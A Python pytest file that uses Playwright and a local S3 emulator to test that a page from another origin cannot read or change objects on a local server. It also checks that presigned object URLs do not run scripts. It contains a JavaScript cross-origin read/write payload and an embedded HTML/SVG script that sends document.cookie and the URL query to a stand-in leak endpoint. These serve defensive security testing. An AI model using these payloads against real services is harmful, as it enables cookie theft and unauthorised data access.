"""A page of another origin in a real browser cannot read or change anything on a local server."""

import contextlib
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import Any

import pytest
from moto.server import ThreadedMotoServer
from playwright.sync_api import Error, Page, sync_playwright

from local.aws import Aws
from local.credentials import Credentials

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")

_OPTIONS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
# Read and write in every way that a page can, with and without the key; return what could be read.
_ATTACK = """async ([bucket, authorization]) => {
    const read = [];
    const attempt = async (url, options) => {
        try { read.push(await (await fetch(url, options)).text()); } catch (refused) {}
    };
    const form = (name) => {
        const made = new FormData();
        made.append("key", name);
        made.append("file", new Blob(["import os"]));
        return made;
    };
    await attempt(bucket, {});
    await attempt(bucket, {headers: {authorization}});
    await attempt(bucket, {method: "POST", body: form("posted")});
    await attempt(bucket, {method: "POST", body: form("posted blindly"), mode: "no-cors"});
    await attempt(`${bucket}/put`, {method: "PUT", body: "import os", headers: {authorization}});
    const submitted = document.createElement("form");
    Object.assign(submitted, {action: bucket, method: "post", enctype: "multipart/form-data", target: "frame"});
    const fields = {key: "submitted", success_action_redirect: location.href, file: "import os"};
    for (const [name, value] of Object.entries(fields)) {
        submitted.append(Object.assign(document.createElement("input"), {name, value}));
    }
    const frame = document.createElement("iframe");
    frame.name = "frame";
    document.body.append(frame, submitted);
    const loaded = new Promise((resolve) => { frame.onload = resolve; });
    submitted.submit();
    await loaded;
    return read.filter((text) => text !== "");
}"""


class _Blank(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"<!doctype html><title>evil</title><body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Log nothing."""


@pytest.fixture
def page() -> Iterator[Page]:
    """A page of another origin: another port of this machine."""
    with HTTPServer(("127.0.0.1", 0), _Blank) as website, sync_playwright() as playwright:
        thread = threading.Thread(target=website.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=_OPTIONS)
        try:
            opened = browser.new_page()
            opened.goto(f"http://127.0.0.1:{website.server_port}/")
            yield opened
        finally:
            browser.close()
            website.shutdown()
            thread.join()


def attacked(page: Page, aws: Aws) -> tuple[list[str], list[str]]:
    """Return what the page could read of a bucket, and the bucket's keys afterwards."""
    s3: Any = aws.client("s3")
    s3.create_bucket(Bucket="attacked")
    s3.put_object(Bucket="attacked", Key="secret", Body=b"secret")
    read = page.evaluate(_ATTACK, [f"{aws.endpoint}/attacked", aws.credentials.authorization])
    keys = sorted(item["Key"] for item in s3.list_objects_v2(Bucket="attacked")["Contents"])
    for key in keys:
        s3.delete_object(Bucket="attacked", Key=key)
    s3.delete_bucket(Bucket="attacked")
    return read, keys


def test_the_page_reads_and_writes_what_moto_serves_without_the_gate(page):
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    try:
        read, keys = attacked(page, Aws(f"http://{host}:{port}", "us-east-1", Credentials.random()))
    finally:
        server.stop()
    assert any("<Key>secret</Key>" in text for text in read)
    assert {"posted", "posted blindly", "put", "submitted"} <= set(keys)


def test_the_page_gets_nothing_from_the_cloud_even_with_the_key(page, cloud):
    assert attacked(page, cloud.aws) == ([], ["secret"])


@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml"])
def test_an_object_opened_by_its_presigned_url_runs_no_script(page, cloud, kind):
    s3 = cloud.client("s3")
    script = "fetch('ORIGIN/leak?' + location.search + document.cookie)".replace("ORIGIN", page.url.rstrip("/"))
    wrapped = {
        "text/html": f"<!doctype html><script>{script}</script><img src='{page.url}leak'>",
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{script}</script></svg>",
    }[kind]
    s3.put_object(Bucket=cloud.outputs["Landing"], Key="page", Body=wrapped.encode(), ContentType=kind)
    url = s3.generate_presigned_url("get_object", Params={"Bucket": cloud.outputs["Landing"], "Key": "page"})
    urls: list[str] = []
    assert page.context.browser is not None
    opened = page.context.browser.new_page()
    opened.on("request", lambda request: urls.append(request.url))
    with opened.expect_download() as download, contextlib.suppress(Error):  # a download makes `goto` raise an error
        opened.goto(url)
    assert download.value.path().read_text() == wrapped
    assert [url for url in urls if "leak" in url] == []
